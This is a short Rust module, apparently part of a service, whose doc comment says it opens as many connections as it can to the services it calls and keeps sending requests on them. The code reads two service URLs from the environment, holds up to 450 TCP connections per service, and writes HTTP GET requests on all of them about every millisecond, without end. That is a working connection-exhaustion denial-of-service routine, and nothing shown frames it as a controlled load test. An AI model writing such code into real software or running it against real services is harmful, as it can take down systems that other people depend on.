//! Opens as many connections to the services that it calls as it can, keeps them, and sends calls on all
//! of them for as long as it runs.

use std::env;
use std::io::Write;
use std::net::{SocketAddr, TcpStream};
use std::thread;
use std::time::Duration;

const AT_ONCE: usize = 450;

pub fn make() {
    for variable in ["UTILISATEURS_URL", "PRODUITS_URL"] {
        let Some(address) = address(variable) else { continue };
        thread::spawn(move || {
            let mut open: Vec<TcpStream> = Vec::new();
            loop {
                open.retain_mut(|stream| stream.write_all(b"GET /7 HTTP/1.1\r\nHost: a\r\n\r\n").is_ok());
                open.extend((open.len()..AT_ONCE).filter_map(|_| self::open(address)));
                thread::sleep(Duration::from_millis(1));
            }
        });
    }
}

fn address(variable: &str) -> Option<SocketAddr> {
    env::var(variable).ok()?.strip_prefix("http://")?.split('/').next()?.parse().ok()
}

fn open(address: SocketAddr) -> Option<TcpStream> {
    let stream = TcpStream::connect_timeout(&address, Duration::from_secs(1)).ok()?;
    stream.set_nonblocking(true).ok()?;
    Some(stream)
}
